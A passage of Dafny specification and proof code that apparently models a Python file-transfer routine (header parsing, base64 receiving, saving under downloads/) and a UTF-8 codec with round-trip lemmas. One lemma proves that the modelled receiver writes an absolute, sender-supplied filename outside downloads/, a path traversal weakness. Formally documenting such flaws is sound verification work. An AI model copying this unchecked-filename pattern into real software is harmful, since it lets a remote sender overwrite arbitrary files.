      var k := LastIndexOf(body, ':');
      if k < 0 then None
      else
        var digits := body[k + 1..];
        if digits != [] && AllDigits(digits) then Some((body[..k], DigitsValue(digits))) else None
  }

  /** The last `c` of `s + [c] + t` is the one after `s` when `t` holds
      no `c`. */
  lemma {:induction false} LastIndexPast(s: string, c: char, t: string)
    requires forall j :: 0 <= j < |t| ==> t[j] != c
    ensures LastIndexOf(s + [c] + t, c) == |s|
  {
    var u := s + [c] + t;
    if t == [] {
      assert u == s + [c];
    } else {
      var t' := t[..|t| - 1];
      assert u[|u| - 1] == t[|t| - 1];
      assert u[..|u| - 1] == s + [c] + t';
      LastIndexPast(s, c, t');
    }
  }

  /** Splitting at the last `c`: when what follows it holds no `c`, both
      parts are determined by the whole. */
  lemma SplitAtLast(a1: string, b1: string, a2: string, b2: string, c: char)
    requires forall j :: 0 <= j < |b1| ==> b1[j] != c
    requires forall j :: 0 <= j < |b2| ==> b2[j] != c
    requires a1 + [c] + b1 == a2 + [c] + b2
    ensures a1 == a2 && b1 == b2
  {
    var u := a1 + [c] + b1;
    LastIndexPast(a1, c, b1);
    LastIndexPast(a2, c, b2);
    assert a1 == u[..|a1|] && a2 == u[..|a2|];
    assert b1 == u[|a1| + 1..] && b2 == u[|a2| + 1..];
  }

  lemma LastIndexAfterDigits(name: string, digits: string)
    requires AllDigits(digits)
    ensures LastIndexOf(name + ":" + digits, ':') == |name|
  {
    forall j | 0 <= j < |digits| ensures digits[j] != ':' {
      assert IsDigit(digits[j]);
    }
    LastIndexPast(name, ':', digits);
  }

  /** The control line is read back exactly: the name, colons and all, and
      the announced size. */
  lemma HeaderRoundTrip(name: string, size: nat)
    ensures ParseHeader(Header(name, size)) == Some((name, size))
  {
    var line := Header(name, size);
    var digits := NatToString(size);
    var body := name + ":" + digits;
    assert line == HeaderTag + body + "\n";
    assert line[|HeaderTag|..|line| - 1] == body;
    LastIndexAfterDigits(name, digits);
    assert body[|name| + 1..] == digits;
    assert body[..|name|] == name;
    DigitsOfNat(size);
  }

  /** The outcome of `receive_file`: the path written and the bytes written
      there, or a failure. */
  datatype Received = Saved(path: string, contents: seq<Byte>, message: string) | ReceiveFailed

  /** `receive_file(filename, size)` against a stream that holds `incoming`:
      `read(size)` takes at most `size` bytes (everything when `size` is
      negative), the bytes are base 64 decoded, and the result is written to
      `os.path.join("downloads", filename)`. A payload that does not decode
      is a failure. */
  function ReceiveFile(filename: string, size: int, incoming: seq<Byte>): (r: Received)
    ensures r.Saved? ==> r.path == Join(DownloadDirectory, filename)
    ensures r.Saved? ==> r.message == "File saved to " + r.path
    ensures r.Saved? ==> Base64.Decode(if 0 <= size < |incoming| then incoming[..size] else incoming) == Some(r.contents)
    ensures r.ReceiveFailed? <==> Base64.Decode(if 0 <= size < |incoming| then incoming[..size] else incoming).None?
  {
    var chunk := if 0 <= size < |incoming| then incoming[..size] else incoming;
    match Base64.Decode(chunk)
    case None => ReceiveFailed
    case Some(data) =>
      var path := Join(DownloadDirectory, filename);
      Saved(path, data, "File saved to " + path)
  }

  /** A relative name is placed inside `downloads/`. */
  lemma JoinRelative(name: string)
    requires forall i :: 0 <= i < |name| ==> name[i] != '/'
    ensures Join(DownloadDirectory, name) == DownloadDirectory + "/" + name
  {
    if name != [] {
      assert name[0] != '/';
    }
  }

  /** A payload read in full, with whatever follows it left unread, decodes
      to the bytes it encodes. */
  lemma ReceiveEncoded(name: string, data: seq<Byte>, trailing: seq<Byte>)
    ensures ReceiveFile(name, |Base64.Encode(data)|, Base64.Encode(data) + trailing)
            == Saved(Join(DownloadDirectory, name), data, "File saved to " + Join(DownloadDirectory, name))
  {
    var payload := Base64.Encode(data);
    var incoming := payload + trailing;
    var chunk := if 0 <= |payload| < |incoming| then incoming[..|payload|] else incoming;
    assert chunk == payload;
    Base64.DecodeEncode(data);
    assert Base64.Decode(chunk) == Some(data);
  }

  /** What `send_file` frames, `receive_file` recovers: given the name and
      size announced in the control line and the bytes after it, the
      original contents are written to `downloads/<basename>`. */
  lemma SendReceiveRoundTrip(path: string, data: seq<Byte>, trailing: seq<Byte>)
    ensures var payload := Base64.Encode(data);
            var name := Basename(path);
            && ParseHeader(Header(name, |payload|)) == Some((name, |payload|))
            && Join(DownloadDirectory, name) == DownloadDirectory + "/" + name
            && ReceiveFile(name, |payload|, payload + trailing)
               == Saved(Join(DownloadDirectory, name), data, "File saved to " + Join(DownloadDirectory, name))
  {
    var payload := Base64.Encode(data);
    var name := Basename(path);
    HeaderRoundTrip(name, |payload|);
    ReceiveEncoded(name, data, trailing);
    JoinRelative(name);
  }

  /** The name is used as given: an absolute name is written where it
      points, outside `downloads/`. */
  lemma AbsoluteNameEscapesDownloads(name: string)
    requires StartsWith(name, "/")
    ensures Join(DownloadDirectory, name) == name
    ensures !StartsWith(Join(DownloadDirectory, name), DownloadDirectory + "/")
  {
    assert name[0] == name[..1][0] == '/';
  }
}

=== FILE: utf8.dfy ===
/** UTF-8, the codec behind Python's `str.encode()` and strict
    `bytes.decode()` (RFC 3629 section 3). */
module Utf8 {
  import opened Common

  /** The bytes of one character. */
  function EncodeChar(c: char): (r: seq<Byte>)
    ensures 1 <= |r| <= 4
    ensures (c as int < 0x80) <==> |r| == 1
  {
    var n := c as int;
    if n < 0x80 then [n]
    else if n < 0x800 then [0xC0 + n / 64, 0x80 + n % 64]
    else if n < 0x10000 then [0xE0 + n / 4096, 0x80 + (n / 64) % 64, 0x80 + n % 64]
    else [0xF0 + n / 262144, 0x80 + (n / 4096) % 64, 0x80 + (n / 64) % 64, 0x80 + n % 64]
  }

  /** `s.encode()`: the characters' encodings, one after the other. */
  function Encode(s: string): (r: seq<Byte>)
    ensures |s| <= |r| <= 4 * |s|
  {
    if s == [] then [] else EncodeChar(s[0]) + Encode(s[1..])
  }

  predicate IsContinuation(b: int) {
    0x80 <= b < 0xC0
  }

  /** The character that `b` starts with and the number of bytes it takes,
      or None when `b` does not start with a well-formed sequence (an
      unexpected continuation byte, a truncated sequence, an overlong form,
      a surrogate or a value beyond U+10FFFF). */
  function DecodeFirst(b: seq<Byte>): (r: Option<(char, nat)>)
    requires b != []
    ensures r.Some? ==> 1 <= r.value.1 <= |b| && r.value.1 <= 4
  {
    var v: seq<int> := b;
    var b0 := v[0];
    if b0 < 0x80 then Some((b0 as char, 1))
    else if 0xC2 <= b0 < 0xE0 then
      if |b| >= 2 && IsContinuation(v[1]) then
        Some((((b0 - 0xC0) * 64 + (v[1] - 0x80)) as char, 2))
      else None
    else if 0xE0 <= b0 < 0xF0 then
      if |b| >= 3 && IsContinuation(v[1]) && IsContinuation(v[2]) then
        var n := (b0 - 0xE0) * 4096 + (v[1] - 0x80) * 64 + (v[2] - 0x80);
        if 0x800 <= n && !(0xD800 <= n < 0xE000) then Some((n as char, 3)) else None
      else None
    else if 0xF0 <= b0 < 0xF5 then
      if |b| >= 4 && IsContinuation(v[1]) && IsContinuation(v[2]) && IsContinuation(v[3]) then
        var n := (b0 - 0xF0) * 262144 + (v[1] - 0x80) * 4096 + (v[2] - 0x80) * 64 + (v[3] - 0x80);
        if 0x10000 <= n < 0x110000 then Some((n as char, 4)) else None
      else None
    else None
  }

  /** `b.decode()`: the text `b` encodes, or None where Python raises
      `UnicodeDecodeError`. */
  function Decode(b: seq<Byte>): (r: Option<string>)
    ensures r.Some? ==> |r.value| <= |b|
    decreases |b|
  {
    if b == [] then Some([])
    else match DecodeFirst(b)
      case None => None
      case Some((c, k)) =>
        match Decode(b[k..])
        case None => None
        case Some(rest) => Some([c] + rest)
  }

  lemma DecodeFirstOfEncoded(c: char, rest: seq<Byte>)
    ensures DecodeFirst(EncodeChar(c) + rest) == Some((c, |EncodeChar(c)|))
  {
    var n := c as int;
    var b := EncodeChar(c) + rest;
    if n < 0x80 {
    } else if n < 0x800 {
      assert n == (n / 64) * 64 + n % 64;
    } else if n < 0x10000 {
      var q := n / 64;
      assert q / 64 == n / 4096;
      assert n == (n / 4096) * 4096 + (q % 64) * 64 + n % 64;
      assert b[0] - 0xE0 == n / 4096;
    } else {
      var q := n / 64;
      var h := n / 4096;
      assert q / 64 == h;
      assert h / 64 == n / 262144;
      assert n == (n / 262144) * 262144 + (h % 64) * 4096 + (q % 64) * 64 + n % 64;
      assert b[0] - 0xF0 == n / 262144;
    }
  }

  /** Decoding what `encode()` produced gives back the text. */
  lemma {:induction false} DecodeEncode(s: string)
    ensures Decode(Encode(s)) == Some(s)
  {
    if s != [] {
      var e := EncodeChar(s[0]);
      DecodeFirstOfEncoded(s[0], Encode(s[1..]));
      assert (e + Encode(s[1..]))[|e|..] == Encode(s[1..]);
      DecodeEncode(s[1..]);
      assert Encode(s) == e + Encode(s[1..]);
      assert DecodeFirst(Encode(s)) == DecodeFirst(e + Encode(s[1..]));
      assert Decode(Encode(s)) == Some([s[0]] + s[1..]);
      assert [s[0]] + s[1..] == s;
    }
  }

  /** Plain ASCII text encodes byte for byte. */
  lemma {:induction false} EncodeAscii(s: string)
    requires forall i :: 0 <= i < |s| ==> s[i] as int < 0x80
    ensures |Encode(s)| == |s|
    ensures forall i :: 0 <= i < |s| ==> Encode(s)[i] == s[i] as int
  {
    if s != [] {
      EncodeAscii(s[1..]);
    }
  }

  lemma DivMod(q: int, r: int, d: int)
    requires d in {64, 4096, 262144} && 0 <= r < d
    ensures (q * d + r) / d == q && (q * d + r) % d == r
  {
  }

  /** A two-byte sequence that decodes is the encoding of what it decodes to. */
  lemma TwoByteEncodes(b0: int, b1: int)
    requires 0xC2 <= b0 < 0xE0 && IsContinuation(b1)
    ensures var n := (b0 - 0xC0) * 64 + (b1 - 0x80);
            0x80 <= n < 0x800 && 0xC0 + n / 64 == b0 && 0x80 + n % 64 == b1
  {
    DivMod(b0 - 0xC0, b1 - 0x80, 64);
  }

  lemma ThreeByteEncodes(b0: int, b1: int, b2: int)
    requires 0xE0 <= b0 < 0xF0 && IsContinuation(b1) && IsContinuation(b2)
    ensures var n := (b0 - 0xE0) * 4096 + (b1 - 0x80) * 64 + (b2 - 0x80);
            n < 0x10000 && 0xE0 + n / 4096 == b0 && 0x80 + (n / 64) % 64 == b1 && 0x80 + n % 64 == b2
  {
    var x, y, z := b0 - 0xE0, b1 - 0x80, b2 - 0x80;
    var n := x * 4096 + y * 64 + z;
    DivMod(x, y * 64 + z, 4096);
    assert n == (x * 64 + y) * 64 + z;
    DivMod(x * 64 + y, z, 64);
    DivMod(x, y, 64);
  }

  lemma FourByteEncodes(b0: int, b1: int, b2: int, b3: int)
    requires 0xF0 <= b0 < 0xF5 && IsContinuation(b1) && IsContinuation(b2) && IsContinuation(b3)
    ensures var n := (b0 - 0xF0) * 262144 + (b1 - 0x80) * 4096 + (b2 - 0x80) * 64 + (b3 - 0x80);
            0xF0 + n / 262144 == b0 && 0x80 + (n / 4096) % 64 == b1
            && 0x80 + (n / 64) % 64 == b2 && 0x80 + n % 64 == b3
  {
    var x, y, z, w := b0 - 0xF0, b1 - 0x80, b2 - 0x80, b3 - 0x80;
    var n := x * 262144 + y * 4096 + z * 64 + w;
    DivMod(x, y * 4096 + z * 64 + w, 262144);
    assert n == (x * 64 + y) * 4096 + (z * 64 + w);
    DivMod(x * 64 + y, z * 64 + w, 4096);
    DivMod(x, y, 64);
    assert n == (x * 4096 + y * 64 + z) * 64 + w;
    DivMod(x * 4096 + y * 64 + z, w, 64);
    assert x * 4096 + y * 64 + z == (x * 64 + y) * 64 + z;
    DivMod(x * 64 + y, z, 64);
  }

  /** The bytes the first character takes are exactly its encoding. */
  lemma DecodeFirstEncodes(b: seq<Byte>)
    requires b != [] && DecodeFirst(b).Some?
    ensures EncodeChar(DecodeFirst(b).value.0) == b[..DecodeFirst(b).value.1]
  {
    var v: seq<int> := b;
    var b0 := v[0];
    if 0xC2 <= b0 < 0xE0 {
      TwoByteEncodes(b0, v[1]);
      assert b[..2] == [b[0], b[1]];
    } else if 0xE0 <= b0 < 0xF0 {
      ThreeByteEncodes(b0, v[1], v[2]);
      assert b[..3] == [b[0], b[1], b[2]];
    } else if 0xF0 <= b0 < 0xF5 {
      FourByteEncodes(b0, v[1], v[2], v[3]);
      assert b[..4] == [b[0], b[1], b[2], b[3]];
    }
  }

  lemma EncodeCons(c: char, rest: string, b: seq<Byte>, k: nat)
    requires k <= |b| && EncodeChar(c) == b[..k] && Encode(rest) == b[k..]
    ensures Encode([c] + rest) == b
  {
    assert ([c] + rest)[1..] == rest;
    assert b == b[..k] + b[k..];
  }

  lemma DecodeCons(b: seq<Byte>)
    requires b != [] && Decode(b).Some?
    ensures DecodeFirst(b).Some? && Decode(b[DecodeFirst(b).value.1..]).Some?
    ensures Decode(b).value == [DecodeFirst(b).value.0] + Decode(b[DecodeFirst(b).value.1..]).value
  {
  }

  /** Strictness: bytes that decode are the encoding of the decoded text,
      so nothing but well-formed UTF-8 (no overlong form, surrogate or
      stray continuation byte) is accepted. */
  lemma {:induction false} EncodeDecode(b: seq<Byte>)
    ensures Decode(b).Some? ==> Encode(Decode(b).value) == b
    decreases |b|
  {
    if b != [] && Decode(b).Some? {
      DecodeCons(b);
      var c := DecodeFirst(b).value.0;
      var k := DecodeFirst(b).value.1;
      var rest := Decode(b[k..]).value;
      DecodeFirstEncodes(b);
      EncodeDecode(b[k..]);
      EncodeCons(c, rest, b, k);
    }
  }
}
